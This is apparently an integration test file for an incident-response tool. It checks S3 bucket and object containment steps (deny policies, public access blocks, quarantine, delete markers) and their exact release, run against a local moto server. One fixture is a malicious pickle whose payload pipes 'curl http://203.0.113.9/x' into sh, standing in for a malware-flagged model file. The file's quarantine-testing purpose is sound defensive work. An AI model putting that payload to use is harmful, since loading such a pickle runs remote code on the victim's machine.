/**
 * The S3 containment actions against moto_server, each step of the s3-bucket and s3-object playbooks' plans run as
 * the engine runs it (parse → capture → apply), the state READ BACK with fresh clients, applied again (nothing
 * changes), verified, then released in reverse order and the original state read back: the bucket policy JSON-equal
 * to the original, an absent public access block / ownership setting / policy absent again, versioning Suspended
 * (AWS has no way back to unversioned), exactly our delete marker removed, the prior tag set back.
 * Records the calls for the IAM evaluator (TOURNIQUET_RECORD_AWS_CALLS=1).
 */
import { mkdtemp } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { createHash } from 'node:crypto';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import {
  CreateBucketCommand,
  DeleteBucketOwnershipControlsCommand,
  GetBucketOwnershipControlsCommand,
  GetBucketPolicyCommand,
  GetBucketVersioningCommand,
  GetObjectCommand,
  GetObjectTaggingCommand,
  GetPublicAccessBlockCommand,
  HeadObjectCommand,
  ListObjectVersionsCommand,
  PutBucketOwnershipControlsCommand,
  PutBucketPolicyCommand,
  PutBucketVersioningCommand,
  PutObjectCommand,
  PutPublicAccessBlockCommand,
  S3Client,
} from '@aws-sdk/client-s3';
import { startMotoServer, type MotoServer } from '../../src/aws/moto-server.js';
import type { ActionContext } from '../../src/actions/action.js';
import { getAction } from '../../src/actions/registry.js';
import { canonicalJson } from '../../src/actions/action-support.js';
import { NEVER_VERSIONED_NOTE } from '../../src/actions/s3-enable-versioning.js';
import type { AwsClients } from '../../src/aws/clients.js';
import type { EvidenceWriter } from '../../src/evidence/evidence-writer.js';
import { LocalCaseFolder } from '../../src/evidence/local-case-folder.js';
import type { Finding, Json, Subject } from '../../src/findings/model.js';
import { s3BucketPlaybook } from '../../src/playbooks/s3-bucket.js';
import { s3ObjectPlaybook } from '../../src/playbooks/s3-object.js';
import { topologicalOrder } from '../../src/engine/step-graph.js';
import type { Plan } from '../../src/contracts/plan.js';
import { makeTestClients, TEST_ACCOUNT_ID } from '../support/aws-clients.js';
import { recordAwsCalls, writeAwsCallFixtures } from '../support/aws-call-recording.js';
import { memoryEvidence } from '../support/memory-evidence.js';
import { bucketFinding, objectFinding } from '../support/s3-findings.js';

const NOW = new Date('2026-12-03T08:00:00.000Z');
const USER_ID = 'AIDA3XFRBF23EXAMPLE01';

let moto: MotoServer;
let currentAction = '';
let clients: AwsClients;

const reader = (): S3Client => makeTestClients(moto.endpoint).aws(S3Client);

beforeAll(async () => {
  moto = await startMotoServer();
  clients = makeTestClients(moto.endpoint);
  recordAwsCalls(clients, () => currentAction);
});

afterAll(async () => {
  await moto?.stop();
  await writeAwsCallFixtures('test/integration/actions-s3.test.ts against moto_server');
});

type Ran = { id: string; action: string; input: unknown; pre: Json; output: Json };

function ctxFor(caseId: string, subject: Subject, evidence: EvidenceWriter, stepId: string): ActionContext {
  return { clients, incidentId: caseId, caseId, subject, evidence, now: () => NOW, actor: 'test', stepId };
}

function planFor(finding: Finding, kind: 's3-bucket' | 's3-object', options: unknown = {}): { plan: Plan; subject: Subject } {
  const subject = finding.subjects.find((s) => s.kind === kind)!;
  const playbook = kind === 's3-bucket' ? s3BucketPlaybook : s3ObjectPlaybook;
  return { plan: playbook.plan(finding, subject, options), subject };
}

/** capture → apply → apply again (must change nothing) → verify, step by step in the engine's order. */
async function contain(caseId: string, plan: Plan, subject: Subject, evidence: EvidenceWriter): Promise<Ran[]> {
  const ran: Ran[] = [];
  for (const s of topologicalOrder(plan.steps)) {
    const action = getAction(s.action);
    currentAction = s.action;
    const ctx = ctxFor(caseId, subject, evidence, s.id);
    const input = action.parseInput(s.input, ctx);
    const pre = (await action.capture(input, ctx)) as Json;
    const output = (await action.apply(input, pre, ctx)) as Json;
    ran.push({ id: s.id, action: s.action, input, pre, output });
    if (action.effect === 'read') continue;
    const again = (await action.apply(input, pre, ctx)) as { changed?: boolean };
    expect(again.changed, `${s.id} applied twice`).toBe(false);
    const v = await action.verify!(input, ctx);
    expect(v.holds, `${s.id}: ${v.detail}`).toBe(true);
  }
  currentAction = '';
  return ran;
}

async function release(caseId: string, ran: readonly Ran[], subject: Subject, evidence: EvidenceWriter): Promise<Record<string, Json>> {
  const out: Record<string, Json> = {};
  for (const r of [...ran].reverse()) {
    const action = getAction(r.action);
    if (action.release === undefined) continue;
    currentAction = r.action;
    const ctx = ctxFor(caseId, subject, evidence, r.id);
    out[r.id] = await action.release(r.input, r.pre, r.output, ctx);
    // Released twice: nothing more to do.
    const again = (await action.release(r.input, r.pre, r.output, ctx)) as { action?: string };
    expect(again.action, `${r.id} released twice`).toBe('none');
    // A step that changed something no longer holds once released.
    if ((r.output as { changed?: boolean }).changed !== true) continue;
    const v = await action.verify!(r.input, ctx);
    expect(v.holds, `${r.id} after release: ${v.detail}`).toBe(false);
  }
  currentAction = '';
  return out;
}

async function policyOf(bucket: string): Promise<string | null> {
  try {
    return (await reader().send(new GetBucketPolicyCommand({ Bucket: bucket }))).Policy ?? null;
  } catch (err) {
    if ((err as Error).name === 'NoSuchBucketPolicy') return null;
    throw err;
  }
}
async function pabOf(bucket: string): Promise<unknown> {
  try {
    return (await reader().send(new GetPublicAccessBlockCommand({ Bucket: bucket }))).PublicAccessBlockConfiguration ?? null;
  } catch (err) {
    if ((err as Error).name === 'NoSuchPublicAccessBlockConfiguration') return null;
    throw err;
  }
}
async function ownershipOf(bucket: string): Promise<string | null> {
  try {
    return (await reader().send(new GetBucketOwnershipControlsCommand({ Bucket: bucket }))).OwnershipControls?.Rules?.[0]?.ObjectOwnership ?? null;
  } catch (err) {
    if ((err as Error).name === 'OwnershipControlsNotFoundError') return null;
    throw err;
  }
}
const versioningOf = async (bucket: string): Promise<string | null> => (await reader().send(new GetBucketVersioningCommand({ Bucket: bucket }))).Status ?? null;
const statementsOf = (policy: string | null): Array<Record<string, unknown>> => {
  if (policy === null) return [];
  const s = (JSON.parse(policy) as { Statement: unknown }).Statement;
  return (Array.isArray(s) ? s : [s]) as Array<Record<string, unknown>>;
};
const normalised = (policy: string | null): string | null => {
  if (policy === null) return null;
  const doc = JSON.parse(policy) as Record<string, unknown>;
  return canonicalJson({ ...doc, Statement: statementsOf(policy) });
};

async function createBucket(bucket: string): Promise<void> {
  await reader().send(new CreateBucketCommand({ Bucket: bucket }));
  // New buckets in AWS get BucketOwnerEnforced; buckets created before April 2023 have no ownership controls at all.
  // Remove them to start from that older state (the "absent" case release must give back).
  await reader().send(new DeleteBucketOwnershipControlsCommand({ Bucket: bucket })).catch(() => undefined);
}

describe('s3-bucket playbook steps against moto', () => {
  it('a bucket with a policy, and no public access block, ownership controls or versioning: contained, then exactly restored', async () => {
    const bucket = 'model-training-data';
    await createBucket(bucket);
    // The bucket's own policy: one statement as an object (not an array), which must come back as it was.
    const original = JSON.stringify({
      Version: '2012-10-17',
      Id: 'TeamPolicy',
      Statement: { Sid: 'TrainingRoleReads', Effect: 'Allow', Principal: { AWS: `arn:aws:iam::${TEST_ACCOUNT_ID}:role/trainer` }, Action: 's3:GetObject', Resource: `arn:aws:s3:::${bucket}/*` },
    });
    await reader().send(new PutBucketPolicyCommand({ Bucket: bucket, Policy: original }));
    const originalRead = await policyOf(bucket);
    expect(await pabOf(bucket)).toBeNull();
    expect(await ownershipOf(bucket)).toBeNull();
    expect(await versioningOf(bucket)).toBeNull();

    const finding = bucketFinding({ bucket, accessKey: { accessKeyId: 'AKIA3XFRBF23EXAMPLE9', principalId: USER_ID, userName: 'ci-bot', userType: 'IAMUser' }, remoteIp: '198.51.100.7' });
    const { plan, subject } = planFor(finding, 's3-bucket');
    expect(plan.steps.map((s) => s.id)).toEqual(['capture-config', 'block-public-access', 'disable-acls', 'deny-principal', 'enable-versioning']);
    const evidence = memoryEvidence({ recordedAt: NOW });
    const ran = await contain('case-s3-bucket-1', plan, subject, evidence);

    // Evidence: the configuration as it was before any step.
    const config = evidence.items.get(`s3-bucket-${bucket}-config.json`) as Record<string, unknown>;
    expect(config['policy']).toBe(originalRead);
    expect(config['publicAccessBlock']).toBeNull();
    expect(config['ownership']).toBeNull();
    expect(config['versioning']).toEqual({ status: null, mfaDelete: null });
    expect(config).toHaveProperty('acl');
    expect(config).toHaveProperty('tags');

    // Read back: all four flags, ACLs disabled, versioning on, and the deny merged next to the bucket's statement.
    expect(await pabOf(bucket)).toEqual({ BlockPublicAcls: true, IgnorePublicAcls: true, BlockPublicPolicy: true, RestrictPublicBuckets: true });
    expect(await ownershipOf(bucket)).toBe('BucketOwnerEnforced');
    expect(await versioningOf(bucket)).toBe('Enabled');
    const statements = statementsOf(await policyOf(bucket));
    expect(statements).toHaveLength(2);
    expect(canonicalJson(statements[0])).toBe(canonicalJson(statementsOf(originalRead)[0]));
    expect(statements[1]).toEqual({
      Sid: 'TourniquetDenycases3bucket1',
      Effect: 'Deny',
      Principal: '*',
      Action: 's3:*',
      Resource: [`arn:aws:s3:::${bucket}`, `arn:aws:s3:::${bucket}/*`],
      Condition: { StringEquals: { 'aws:userid': USER_ID } },
    });
    expect(ran.find((r) => r.id === 'deny-principal')!.output).toEqual({ changed: true, sid: 'TourniquetDenycases3bucket1' });

    const released = await release('case-s3-bucket-1', ran, subject, evidence);
    expect(normalised(await policyOf(bucket))).toBe(normalised(originalRead));
    expect(await pabOf(bucket)).toBeNull();
    expect(await ownershipOf(bucket)).toBeNull();
    // AWS cannot return a bucket to unversioned: Suspended, and release says so.
    expect(await versioningOf(bucket)).toBe('Suspended');
    expect(released['enable-versioning']).toEqual({ action: 'suspended', status: 'Suspended', note: NEVER_VERSIONED_NOTE });
    expect(released['deny-principal']).toMatchObject({ action: 'statement-removed' });
  });

  it('a bucket with no policy, its own flags, ObjectWriter and versioning on: the policy is deleted again, the rest restored', async () => {
    const bucket = 'inference-logs';
    await createBucket(bucket);
    const flags = { BlockPublicAcls: true, IgnorePublicAcls: false, BlockPublicPolicy: false, RestrictPublicBuckets: false };
    await reader().send(new PutPublicAccessBlockCommand({ Bucket: bucket, PublicAccessBlockConfiguration: flags }));
    await reader().send(new PutBucketOwnershipControlsCommand({ Bucket: bucket, OwnershipControls: { Rules: [{ ObjectOwnership: 'ObjectWriter' }] } }));
    await reader().send(new PutBucketVersioningCommand({ Bucket: bucket, VersioningConfiguration: { Status: 'Enabled' } }));

    // Only an IP: the deny is on aws:SourceIp.
    const finding = bucketFinding({ bucket, type: 'UnauthorizedAccess:S3/TorIPCaller', remoteIp: '81.2.69.144' });
    const { plan, subject } = planFor(finding, 's3-bucket');
    expect(plan.steps.find((s) => s.id === 'deny-principal')!.input).toEqual({ bucket, target: { kind: 'source-ip', value: '81.2.69.144' } });
    const evidence = memoryEvidence({ recordedAt: NOW });
    const ran = await contain('case-s3-bucket-2', plan, subject, evidence);
    expect(statementsOf(await policyOf(bucket))).toEqual([expect.objectContaining({ Condition: { IpAddress: { 'aws:SourceIp': '81.2.69.144/32' } } })]);
    expect(ran.find((r) => r.id === 'enable-versioning')!.output).toEqual({ changed: false });

    const released = await release('case-s3-bucket-2', ran, subject, evidence);
    expect(await policyOf(bucket)).toBeNull();
    expect(released['deny-principal']).toMatchObject({ action: 'policy-deleted' });
    expect(await pabOf(bucket)).toEqual(flags);
    expect(await ownershipOf(bucket)).toBe('ObjectWriter');
    expect(await versioningOf(bucket)).toBe('Enabled');
  });

  it('release keeps a statement someone else added meanwhile, and removes only ours', async () => {
    const bucket = 'shared-features';
    await createBucket(bucket);
    const finding = bucketFinding({ bucket, accessKey: { accessKeyId: 'ASIA3XFRBF23EXAMPLE9', principalId: 'AROA3XFRBF23EXAMPLE02:etl-session', userType: 'AssumedRole' } });
    const { plan, subject } = planFor(finding, 's3-bucket', { blockPublicAccess: false, disableAcls: false, enableVersioning: false });
    expect(plan.steps.map((s) => s.id)).toEqual(['capture-config', 'deny-principal']);
    const evidence = memoryEvidence({ recordedAt: NOW });
    const ran = await contain('case-s3-bucket-3', plan, subject, evidence);
    const withOurs = JSON.parse((await policyOf(bucket))!) as { Statement: unknown[] };
    const theirs = { Sid: 'AddedDuringIncident', Effect: 'Deny', Principal: '*', Action: 's3:DeleteObject', Resource: `arn:aws:s3:::${bucket}/*` };
    await reader().send(new PutBucketPolicyCommand({ Bucket: bucket, Policy: JSON.stringify({ ...withOurs, Statement: [...withOurs.Statement, theirs] }) }));
    await release('case-s3-bucket-3', ran, subject, evidence);
    expect(statementsOf(await policyOf(bucket))).toEqual([theirs]);
  });
});

const PICKLE = Buffer.concat([Buffer.from([0x80, 0x04, 0x95]), Buffer.from('cos\nsystem\n(S\'curl http://203.0.113.9/x | sh\'\ntR.', 'latin1')]);

describe('s3-object playbook steps against moto', () => {
  it('versioned model bucket: the flagged version copied with its SHA-256, tagged, hidden by a delete marker; release removes exactly that marker and our tag', async () => {
    const bucket = 'model-registry';
    const key = 'models/llm-7b/model.pkl';
    await createBucket(bucket);
    await reader().send(new PutBucketVersioningCommand({ Bucket: bucket, VersioningConfiguration: { Status: 'Enabled' } }));
    const first = await reader().send(new PutObjectCommand({ Bucket: bucket, Key: key, Body: Buffer.from('older clean model'), Tagging: 'team=ml' }));
    const flagged = await reader().send(new PutObjectCommand({ Bucket: bucket, Key: key, Body: PICKLE, Tagging: 'GuardDutyMalwareScanStatus=THREATS_FOUND&team=ml' }));
    const finding = objectFinding({ bucket, key, versionId: flagged.VersionId!, eTag: flagged.ETag!.replaceAll('"', '') });
    const { plan, subject } = planFor(finding, 's3-object', { evidenceMaxBytes: 1024 });
    expect(plan.steps.map((s) => s.id)).toEqual(['capture-object', 'tag-object', 'hide-object']);
    const evidence = memoryEvidence({ recordedAt: NOW });
    const ran = await contain('case-s3-object-1', plan, subject, evidence);

    const sha = createHash('sha256').update(PICKLE).digest('hex');
    expect(ran[0]!.output).toMatchObject({ sha256: sha, bytes: PICKLE.byteLength, copied: true, versionId: flagged.VersionId });
    expect(Buffer.from(evidence.items.get(`s3-object/${bucket}/${key}@${flagged.VersionId}`) as unknown as Uint8Array)).toBeDefined();
    expect(evidence.items.get(`s3-object/${bucket}/${key}@${flagged.VersionId}.json`)).toMatchObject({ sha256: sha, copied: true });

    // Not served: a plain GET is 404; the flagged version and the older one are both still there.
    await expect(reader().send(new GetObjectCommand({ Bucket: bucket, Key: key }))).rejects.toMatchObject({ name: 'NoSuchKey' });
    const kept = await reader().send(new GetObjectCommand({ Bucket: bucket, Key: key, VersionId: flagged.VersionId! }));
    expect(createHash('sha256').update(await kept.Body!.transformToByteArray()).digest('hex')).toBe(sha);
    const tags = await reader().send(new GetObjectTaggingCommand({ Bucket: bucket, Key: key, VersionId: flagged.VersionId! }));
    expect(tags.TagSet).toEqual(expect.arrayContaining([{ Key: 'tourniquet:quarantine', Value: 'case-s3-object-1' }, { Key: 'GuardDutyMalwareScanStatus', Value: 'THREATS_FOUND' }, { Key: 'team', Value: 'ml' }]));
    const listed = await reader().send(new ListObjectVersionsCommand({ Bucket: bucket, Prefix: key }));
    expect((listed.Versions ?? []).map((v) => v.VersionId).sort()).toEqual([first.VersionId, flagged.VersionId].sort());
    expect(listed.DeleteMarkers).toHaveLength(1);

    await release('case-s3-object-1', ran, subject, evidence);
    const after = await reader().send(new ListObjectVersionsCommand({ Bucket: bucket, Prefix: key }));
    expect(after.DeleteMarkers ?? []).toHaveLength(0);
    expect((after.Versions ?? []).map((v) => v.VersionId).sort()).toEqual([first.VersionId, flagged.VersionId].sort());
    const served = await reader().send(new HeadObjectCommand({ Bucket: bucket, Key: key }));
    expect(served.VersionId).toBe(flagged.VersionId);
    const tagsAfter = await reader().send(new GetObjectTaggingCommand({ Bucket: bucket, Key: key, VersionId: flagged.VersionId! }));
    expect(canonicalJson([...tagsAfter.TagSet!].sort((a, b) => a.Key!.localeCompare(b.Key!)))).toBe(
      canonicalJson([{ Key: 'GuardDutyMalwareScanStatus', Value: 'THREATS_FOUND' }, { Key: 'team', Value: 'ml' }]),
    );
  });

  it('an object over the evidence bound: the SHA-256 is still exact, the bytes are not kept', async () => {
    const bucket = 'model-registry';
    const key = 'models/big.pt';
    const big = Buffer.alloc(300_000, 7);
    const put = await reader().send(new PutObjectCommand({ Bucket: bucket, Key: key, Body: big }));
    const finding = objectFinding({ bucket, key, versionId: put.VersionId! });
    const { plan, subject } = planFor(finding, 's3-object', { evidenceMaxBytes: 1000 });
    const evidence = memoryEvidence({ recordedAt: NOW });
    const action = getAction('s3.capture-object-version');
    currentAction = action.name;
    const ctx = ctxFor('case-s3-object-big', subject, evidence, 'capture-object');
    const input = action.parseInput(plan.steps[0]!.input, ctx);
    const out = (await action.apply(input, await action.capture(input, ctx), ctx)) as Record<string, unknown>;
    currentAction = '';
    expect(out).toMatchObject({ sha256: createHash('sha256').update(big).digest('hex'), bytes: big.byteLength, copied: false, artefact: null });
    expect([...evidence.items.keys()]).toEqual([`s3-object/${bucket}/${key}@${put.VersionId}.json`]);
  });

  it('unversioned bucket, evidence store: copied into the case, deleted from its key; release puts the same bytes back', async () => {
    const bucket = 'legacy-models';
    const key = 'exports/classifier.pkl';
    await createBucket(bucket);
    const put = await reader().send(
      new PutObjectCommand({ Bucket: bucket, Key: key, Body: PICKLE, ContentType: 'application/octet-stream', Metadata: { framework: 'torch' }, Tagging: 'GuardDutyMalwareScanStatus=THREATS_FOUND' }),
    );
    const finding = objectFinding({ bucket, key, eTag: put.ETag!.replaceAll('"', '') });
    const { plan, subject } = planFor(finding, 's3-object');
    expect(plan.steps.map((s) => [s.id, s.effect])).toEqual([
      ['capture-object', 'read'],
      ['tag-object', 'contain'],
      ['quarantine-object', 'destructive'],
    ]);
    const evidence = new LocalCaseFolder(await mkdtemp(join(tmpdir(), 'tourniquet-s3-')), 'case-s3-object-2', { now: () => NOW });
    const ran = await contain('case-s3-object-2', plan, subject, evidence);
    await expect(reader().send(new HeadObjectCommand({ Bucket: bucket, Key: key }))).rejects.toMatchObject({ $metadata: { httpStatusCode: 404 } });
    expect(ran.find((r) => r.id === 'quarantine-object')!.output).toMatchObject({ changed: true, copy: { kind: 'evidence', sha256: createHash('sha256').update(PICKLE).digest('hex') } });

    await release('case-s3-object-2', ran, subject, evidence);
    const back = await reader().send(new GetObjectCommand({ Bucket: bucket, Key: key }));
    expect(Buffer.from(await back.Body!.transformToByteArray()).equals(PICKLE)).toBe(true);
    expect(back.Metadata).toEqual({ framework: 'torch' });
    // The tags it had before (the scan's), and not ours.
    const tags = await reader().send(new GetObjectTaggingCommand({ Bucket: bucket, Key: key }));
    expect(tags.TagSet).toEqual([{ Key: 'GuardDutyMalwareScanStatus', Value: 'THREATS_FOUND' }]);
  });

  it('unversioned bucket, quarantine bucket option: the copy is there while contained; release copies it back', async () => {
    const bucket = 'legacy-models';
    const key = 'exports/second.pkl';
    await reader().send(new CreateBucketCommand({ Bucket: 'ir-quarantine' }));
    await reader().send(new PutObjectCommand({ Bucket: bucket, Key: key, Body: PICKLE }));
    const finding = objectFinding({ bucket, key });
    const { plan, subject } = planFor(finding, 's3-object', { quarantine: { bucket: 'ir-quarantine', prefix: 'models/' } });
    const evidence = memoryEvidence({ recordedAt: NOW });
    const ran = await contain('case-s3-object-3', plan, subject, evidence);
    const copy = await reader().send(new GetObjectCommand({ Bucket: 'ir-quarantine', Key: `models/case-s3-object-3/${bucket}/${key}` }));
    expect(Buffer.from(await copy.Body!.transformToByteArray()).equals(PICKLE)).toBe(true);
    await expect(reader().send(new HeadObjectCommand({ Bucket: bucket, Key: key }))).rejects.toMatchObject({ $metadata: { httpStatusCode: 404 } });
    await release('case-s3-object-3', ran, subject, evidence);
    const back = await reader().send(new GetObjectCommand({ Bucket: bucket, Key: key }));
    expect(Buffer.from(await back.Body!.transformToByteArray()).equals(PICKLE)).toBe(true);
  });

  it('a delete marker is refused in a bucket whose versioning is suspended (a delete there destroys the null version)', async () => {
    const bucket = 'suspended-models';
    await createBucket(bucket);
    await reader().send(new PutBucketVersioningCommand({ Bucket: bucket, VersioningConfiguration: { Status: 'Suspended' } }));
    const put = await reader().send(new PutObjectCommand({ Bucket: bucket, Key: 'm.pkl', Body: PICKLE }));
    const finding = objectFinding({ bucket, key: 'm.pkl', versionId: put.VersionId ?? 'v-from-before-suspension' });
    const { subject } = planFor(finding, 's3-object');
    const action = getAction('s3.hide-object');
    const ctx = ctxFor('case-s3-object-4', subject, memoryEvidence(), 'hide-object');
    const input = action.parseInput({ bucket, key: 'm.pkl' }, ctx);
    await expect(action.apply(input, await action.capture(input, ctx), ctx)).rejects.toThrow(/versioning Suspended: a delete there would destroy the object/);
    expect((await reader().send(new HeadObjectCommand({ Bucket: bucket, Key: 'm.pkl' }))).ContentLength).toBe(PICKLE.byteLength);
  });
});
